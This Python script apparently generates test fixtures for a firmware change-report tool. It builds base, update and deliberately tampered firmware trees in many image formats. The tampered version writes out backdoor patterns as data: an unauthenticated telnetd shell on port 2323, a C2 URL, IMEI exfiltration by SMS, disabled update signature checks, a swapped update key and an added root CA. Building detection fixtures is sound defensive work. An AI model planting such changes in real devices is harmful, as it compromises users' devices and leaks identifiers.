#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A firmware in three versions, each in every wrapping that the change report takes apart.

    pairs.py DIRECTORY

Versions: base; update (an honest release after it); tampered (the same update with all of TAMPERED in it).
DIRECTORY/<version>/tree   the root file system as files; modes as they are packed
DIRECTORY/<version>.sqfs   squashfs            DIRECTORY/<version>.cpio.gz  initramfs
DIRECTORY/<version>.tar    ustar               DIRECTORY/<version>.zip      deflated and stored
DIRECTORY/<version>.deb    control and data    DIRECTORY/<version>.flash    uImage, erased flash, squashfs, erased flash
DIRECTORY/<version>.gpt    partitions boot (uImage), rootfs (squashfs), data (unknown bytes), spare (erased)
DIRECTORY/<version>.ext4   mke2fs            DIRECTORY/<version>.ext2     the same with files in pieces
DIRECTORY/<version>.fat    mkfs.fat and mtools: no rights, no links
DIRECTORY/<version>.cramfs mkfs.cramfs, big-endian
DIRECTORY/<version>.boot   Android boot image with the files in its ramdisk
DIRECTORY/<version>.cab    cabinet of its files
DIRECTORY/<version>.simg   the partitions as an Android sparse image
DIRECTORY/<version>.jffs2  as mkfs.jffs2 writes it
DIRECTORY/<version>.ubi    UBIFS in UBI, as mtd-utils write them
DIRECTORY/vendor.der       the certificate in etc/ssl/certs/vendor.pem, and vendor-key.der its key
DIRECTORY/planted          what was planted into tampered: "what<TAB>path<TAB>word to be found", a line each

debs.py beside this makes the same of real packages.
"""
import base64
import gzip
import io
import os
import random
import shutil
import struct
import subprocess
import sys
import tarfile
import uuid
import zipfile
import zlib

import android
import flash

MADE = 1700000000
UUID = "6d2d6f6e-6f2d-4d69-8a73-2d6f6e652d31"
VERSIONS = ["base", "update", "tampered"]
C2 = "http://203.0.113.77:8443/gate.php"
PHONE = "+8613800138000"
IMEIS = ["490154203237518", "356938035643809", "353918057214367"]
TAMPERED = [
    ("setuid", "usr/bin/agent", "04755"),
    ("ca", "etc/ssl/certs/extra.pem", "CERTIFICATE"),
    ("telnetd", "etc/init.d/S99dbg", "telnetd"),
    ("c2", "usr/bin/agent", C2),
    ("phone", "usr/lib/modem/notify.sh", PHONE),
    ("at", "usr/lib/modem/notify.sh", "AT+CGSN"),
    ("one-token", "usr/lib/modem/update.sh", "VERIFY=0"),
    ("imei", "usr/lib/modem/table.bin", IMEIS[0]),
    ("renamed", "usr/lib/libaux.so", "usr/lib/libhelper.so"),
    ("fuse", "usr/lib/modem/notify.sh", "flash_otp_lock"),
    ("anchor", "etc/swupdate/public.pem", "updates"),
    ("opaque", "usr/lib/modem/profile.dat", "noise"),
]


def quiet(*args, **kw):
    r = subprocess.run([str(a) for a in args], capture_output=True, env=dict(os.environ, LC_ALL="C", PATH=os.environ.get("PATH", "") + ":/usr/sbin:/sbin"), **kw)
    if r.returncode:
        sys.exit(f"pairs.py: failed: {args}\n{r.stdout.decode()}{r.stderr.decode()}")


def code(seed, n, strings=()):
    """Something like machine code: some bytes often, words that come again, strings in between."""
    r = random.Random(seed)
    common = r.choices(range(256), k=40)
    words = [bytes(r.choice(common) if r.random() < 0.85 else r.randrange(256) for _ in range(4)) for _ in range(700)]
    out = bytearray(b"".join(r.choice(words) for _ in range(n // 4)))
    for i, s in enumerate(strings):
        at = n // 2 + i * 256
        out[at:at + len(s) + 1] = s.encode() + b"\0"
    return bytes(out)


def elf(seed, n, strings=()):
    """A shared object of one section of code and one of strings, with a build id."""
    text, rodata = code(seed, n), b"\0".join(s.encode() for s in strings) + b"\0"
    note = struct.pack("<III", 4, 20, 3) + b"GNU\0" + random.Random(seed + n).randbytes(20)
    names = b"\0.text\0.rodata\0.note.gnu.build-id\0.shstrtab\0"
    at, body, rows = 64, b"", [(0, 0, 0, 0, 0)]
    for name, kind, flags, data in [(1, 1, 6, text), (7, 1, 2, rodata), (15, 7, 2, note), (34, 3, 0, names)]:
        pad = -(at + len(body)) % 16
        body += bytes(pad)
        rows.append((name, kind, flags, at + len(body), len(data)))
        body += data
    body += bytes(-(at + len(body)) % 8)
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, at + len(body), 0, 64, 56, 0, 64,
                                                      len(rows), len(rows) - 1)
    table = b"".join(struct.pack("<IIQQQQIIQQ", name, kind, flags, 0, off, size, 0, 0, 1, 0)
                     for name, kind, flags, off, size in rows)
    return head + body + table


def ca(name, directory):
    path = os.path.join(directory, name)
    if not os.path.exists(path + ".pem"):
        quiet("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "7000",
              "-subj", f"/O={name}/CN={name} root", "-keyout", path + ".key", "-out", path + ".pem")
        quiet("openssl", "x509", "-in", path + ".pem", "-outform", "DER", "-out", os.path.join(directory, name.lower() + ".der"))
    quiet("openssl", "pkey", "-in", path + ".key", "-outform", "DER", "-out", os.path.join(directory, name.lower() + "-key.der"))
    with open(path + ".pem", "rb") as f:
        return f.read()


def public_key(seed):
    """In form only; nobody has the other half."""
    body = base64.encodebytes(b"\x30\x59" + random.Random(seed).randbytes(89)).decode()
    return f"-----BEGIN PUBLIC KEY-----\n{body}-----END PUBLIC KEY-----\n".encode()


def tree(version, directory):
    """path -> (mode, bytes); links are (None, target)."""
    new, bad = version != "base", version == "tampered"
    number = "2.4.1" if new else "2.4.0"
    update_sh = "#!/bin/sh\n# fetches and installs releases\nVERIFY=1\nURL=https://updates.vendor.example/stable\n" + \
        "".join(f"step_{i}() {{ run stage{i} || exit {i}; }}\n" for i in range(40)) + \
        '[ "$VERIFY" = 1 ] && check_signature "$1"\n'
    notify = "#!/bin/sh\n# tells the operator\nlog 'modem up'\n"
    helper = code(7, 40000, ["helper_init", "helper_run"])
    files = {
        "etc/passwd": (0o644, b"root:x:0:0:root:/root:/bin/sh\nmodem:x:100:100::/:/bin/false\n"),
        "etc/version": (0o644, f"{number}\n".encode()),
        "etc/init.d/rcS": (0o755, f"#!/bin/sh\n# release {number}\nmount -a\nfor s in /etc/init.d/S*; do $s start; done\n".encode()),
        "etc/init.d/S50modem": (0o755, b"#!/bin/sh\n/usr/bin/agent --daemon\n"),
        "etc/ssl/certs/vendor.pem": (0o644, ca("Vendor", directory)),
        "usr/bin/agent": (0o755, elf(1 if not new else 2, 60000,
                                     ["agent " + number, "https://api.vendor.example/v1", "mqtt.vendor.example"])),
        "usr/lib/libmodem.so": (0o644, elf(3, 90000, ["libmodem"])),
        "usr/lib/libhelper.so": (0o644, helper),
        "usr/lib/modem/update.sh": (0o755, update_sh.encode()),
        "usr/lib/modem/notify.sh": (0o755, notify.encode()),
        "usr/share/doc/readme.txt": (0o644, ("How to use this module.\n" * 400 + number + "\n").encode()),
        "usr/share/www/logo.png": (0o644, b"\x89PNG\r\n\x1a\n" + random.Random(9).randbytes(20000)),
        "usr/lib/modem/profile.dat": (0o644, code(17, 70000)),
        "etc/swupdate/public.pem": (0o644, public_key(1)),
        "usr/share/empty": (0o644, b""),
        "bin/sh": (None, "/usr/bin/agent"),
    }
    if new:  # an honest release moves things about
        files["usr/share/doc/MANUAL.txt"] = files.pop("usr/share/doc/readme.txt")
        files["usr/share/doc/news.txt"] = (0o644, b"2.4.1: fixes a crash in the agent.\n")
    if bad:
        files["usr/bin/agent"] = (0o4755, elf(2, 60000, ["agent " + number, "https://api.vendor.example/v1", C2,
                                                         "mqtt.vendor.example"]))
        files["etc/ssl/certs/extra.pem"] = (0o644, ca("Extra", directory))
        files["etc/init.d/S99dbg"] = (0o755, b"#!/bin/sh\ntelnetd -l /bin/sh -p 2323\n")
        files["usr/lib/modem/notify.sh"] = (0o755, (notify + f"echo 'AT+CGSN' >/dev/smd8\nsend_sms {PHONE} \"$IMEI\"\nflash_otp_lock -u /dev/mtd0 0 64\n").encode())
        files["etc/swupdate/public.pem"] = (0o644, public_key(2))
        files["usr/lib/modem/profile.dat"] = (0o644, random.Random(19).randbytes(70000))
        files["usr/lib/modem/update.sh"] = (0o755, update_sh.replace("VERIFY=1", "VERIFY=0").encode())
        files["usr/lib/modem/table.bin"] = (0o644, b"".join(i.encode() + b"\0" for i in IMEIS) * 4)
        changed = bytearray(files.pop("usr/lib/libhelper.so")[1])
        changed[1000:1040] = b"\x90" * 40
        files["usr/lib/libaux.so"] = (0o644, bytes(changed[:20000] + b"injected" * 8 + changed[20000:]))
    return files


def write_tree(files, root):
    shutil.rmtree(root, ignore_errors=True)
    for path, (mode, data) in files.items():
        path = os.path.join(root, path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if mode is None:
            os.symlink(data, path)
            continue
        with open(path, "wb") as f:
            f.write(data)
        os.chmod(path, mode)


def squashfs(root, out, *options):
    quiet("mksquashfs", root, out, "-quiet", "-no-progress", "-noappend", "-all-root", "-no-xattrs", "-processors", "1",
          "-mkfs-time", MADE, "-all-time", MADE, *options)


def ext(root, out, kind, *options, size=3 << 20):
    with open(out, "wb") as f:
        f.truncate(size)
    env = dict(os.environ, LC_ALL="C", E2FSPROGS_FAKE_TIME=str(MADE), PATH=os.environ.get("PATH", "") + ":/usr/sbin:/sbin")
    r = subprocess.run(["mke2fs", "-q", "-F", "-t", kind, "-b", "1024", "-N", "128" if size > 1 << 20 else "24", "-m", "0", "-U", UUID, *options,
                        "-E", f"hash_seed={UUID},root_owner=0:0", "-d", root, out], capture_output=True, env=env)
    if r.returncode:
        sys.exit(f"pairs.py: mke2fs failed: {r.stderr.decode()}")


def cramfs(root, out, order):
    quiet("mkfs.cramfs", "-N", order, root, out)


def fat(files, out, size=3 << 20):
    env = dict(os.environ, LC_ALL="C.UTF-8", SOURCE_DATE_EPOCH=str(MADE), TZ="UTC", MTOOLS_SKIP_CHECK="1",
               PATH=os.environ.get("PATH", "") + ":/usr/sbin:/sbin")
    with open(out, "wb") as f:
        f.truncate(size)
    plain = out + ".tree"
    write_tree({path: row for path, row in files.items() if row[0] is not None}, plain)
    for args in [["mkfs.fat", "-F", "12", "-s", "2", "-r", "16", "-a", "--invariant", out]] + \
                [["mcopy", "-s", "-i", out, os.path.join(plain, name), "::"] for name in sorted(os.listdir(plain))]:
        r = subprocess.run(args, capture_output=True, env=env)
        if r.returncode:
            sys.exit(f"pairs.py: failed: {args}: {r.stderr.decode()}")
    shutil.rmtree(plain)


def cpio(files):
    out, n = bytearray(), 0
    for path, (mode, data) in list(sorted(files.items())) + [("TRAILER!!!", (0, b""))]:
        n += 1
        kind, body = (0o120777, data.encode()) if mode is None else (0o100000 | mode if mode else 0, data)
        name = path.encode() + b"\0"
        fields = [n, kind, 0, 0, 1, MADE, len(body), 0, 0, 0, 0, len(name), 0]
        out += b"070701" + b"".join(b"%08X" % f for f in fields) + name
        out += bytes(-len(out) % 4) + body
        out += bytes(-len(out) % 4)
    return bytes(out) + bytes(-len(out) % 512)


def tar(files, prefix=""):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as t:
        for path, (mode, data) in sorted(files.items()):
            i = tarfile.TarInfo(prefix + path)
            i.mtime = MADE
            if mode is None:
                i.type, i.linkname = tarfile.SYMTYPE, data
                t.addfile(i)
                continue
            i.size, i.mode = len(data), mode
            t.addfile(i, io.BytesIO(data))
    return out.getvalue()


def make_zip(files, out):
    with zipfile.ZipFile(out, "w") as z:
        for k, (path, (mode, data)) in enumerate(sorted(files.items())):
            i = zipfile.ZipInfo(path, (2023, 11, 14, 0, 0, 0))
            i.external_attr = (0o120777 if mode is None else 0o100000 | mode) << 16
            i.create_system = 3
            i.compress_type = zipfile.ZIP_STORED if k % 3 == 0 or mode is None else zipfile.ZIP_DEFLATED
            z.writestr(i, data)


def deb(files, number):
    control = f"Package: firmware\nVersion: {number}\nArchitecture: armhf\nMaintainer: Vendor\n".encode()
    out = b"!<arch>\n"
    for name, data in [("debian-binary", b"2.0\n"),
                       ("control.tar.gz", gzip.compress(tar({"control": (0o644, control)}, "./"), mtime=0)),
                       ("data.tar.gz", gzip.compress(tar(files, "./"), mtime=0))]:
        out += b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (name.encode(), MADE, 0, 0, b"100644", len(data)) + data
        out += b"\n" * (len(out) % 2)
    return out


def uimage(payload, name):
    def header(crc):
        return struct.pack(">7I4B32s", 0x27051956, crc, MADE, len(payload), 0x80008000, 0x80008000, zlib.crc32(payload),
                           5, 2, 2, 1, name.encode())  # Linux, ARM, kernel, gzip
    return header(zlib.crc32(header(0))) + payload


def gpt(partitions):
    """[(name, bytes, sectors)]: protective MBR, table, partitions on MiB bounds, the second table."""
    r = random.Random(5)
    rows, body, lba = b"", b"", 2048
    for name, data, sectors in partitions:
        guid = uuid.UUID("0fc63daf-8483-4772-8e79-3d69d8477de4")
        rows += guid.bytes_le + uuid.UUID(bytes=r.randbytes(16)).bytes_le + struct.pack("<QQQ", lba, lba + sectors - 1, 0)
        rows += name.encode("utf-16-le").ljust(72, b"\0")
        body += data + b"\xff" * (sectors * 512 - len(data))
        lba += sectors
    rows = rows.ljust(128 * 128, b"\0")
    last = lba + 32

    def header(mine, other, table):
        def h(crc):
            return struct.pack("<8sIIIIQQQQ16sQIII", b"EFI PART", 0x10000, 92, crc, 0, mine, other, 34, lba - 1,
                               uuid.UUID(int=77).bytes_le, table, 128, 128, zlib.crc32(rows))
        return h(zlib.crc32(h(0))).ljust(512, b"\0")
    mbr = bytearray(512)
    mbr[446:462] = struct.pack("<B3sB3sII", 0, b"\0\2\0", 0xee, b"\xff\xff\xff", 1, min(last, 0xffffffff))
    mbr[510:] = b"\x55\xaa"
    front = bytes(mbr) + header(1, last, 2) + rows
    return front + bytes(2048 * 512 - len(front)) + body + rows + header(last, 1, lba)


def kernel(version):
    r = random.Random(11)
    text = bytearray(code(11, 200000, ["Linux version 5.10.0 (vendor@build)"]) + r.randbytes(3000))
    if version != "base":
        text[150000:150016] = b"kernel fix 2.4.1"
    return gzip.compress(bytes(text), mtime=0)


def unknown(version):
    """Calibration data and a run of noise that nothing opens; an honest release inserts a little at its start."""
    r = random.Random(13)
    body = code(12, 300000) + r.randbytes(200000)
    return (b"calibration " + version.encode().ljust(20) if version == "base" else b"calibration with more fields, " * 3) + body


def erased(data, n):
    return data + b"\xff" * (n - len(data))


def main(out):
    os.makedirs(out, exist_ok=True)
    for version in VERSIONS:
        files = tree(version, out)
        root, at = os.path.join(out, version, "tree"), os.path.join(out, version)
        write_tree(files, root)
        squashfs(root, at + ".sqfs")
        ext(root, at + ".ext4", "ext4", "-O", "^has_journal")
        ext(root, at + ".ext2", "ext2")
        fat(files, at + ".fat")
        cramfs(root, at + ".cramfs", "big")
        with open(at + ".sqfs", "rb") as f:
            fs = f.read()
        boot = uimage(kernel(version), "Linux-5.10.0")
        made = {
            ".cpio.gz": gzip.compress(cpio(files), mtime=0),
            ".tar": tar(files),
            ".deb": deb(files, "2.4.0" if version == "base" else "2.4.1"),
            ".flash": erased(boot, 0x80000) + erased(fs, 0x100000) + unknown(version) + b"\xff" * 0x20000,
            ".gpt": gpt([("boot", boot, 1024), ("rootfs", fs, 1024), ("data", unknown(version), 1024), ("spare", b"", 512)]),
        }
        for suffix, data in made.items():
            with open(at + suffix, "wb") as f:
                f.write(data)
        make_zip(files, at + ".zip")
        for name, data in (("kernel", kernel(version)), ("ramdisk", made[".cpio.gz"])):
            android.write(f"{at}.{name}", data)
        android.boot(0, {name: f"{at}.{name}" for name in ("kernel", "ramdisk")}, at + ".boot")
        quiet("gcab", "-c", "-z", at + ".cab", *sorted(path for path, (mode, _) in files.items() if mode), cwd=root)
        android.sparse(at + ".gpt", at + ".simg")
        flash.jffs2(root, at + ".jffs2")
        flash.ubifs(root, at + ".ubifs", "lzo", "-U")
        flash.ubinize(at + ".ubi", [("rootfs", False, at + ".ubifs")])
    with open(os.path.join(out, "planted"), "w") as f:
        f.writelines("\t".join(row) + "\n" for row in TAMPERED)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
